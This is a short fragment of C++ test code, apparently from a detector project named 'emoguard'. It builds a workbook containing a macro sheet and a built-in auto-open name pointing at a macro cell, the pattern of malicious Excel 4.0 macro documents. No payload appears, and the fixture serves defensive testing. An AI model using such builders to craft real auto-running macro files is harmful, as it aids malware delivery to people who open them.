  return workbook({visible, macro}, {externsheet({1}), lbl_builtin(0x01, ptg_ref3d(0, 0, 0))});
}

}  // namespace emoguard::testing
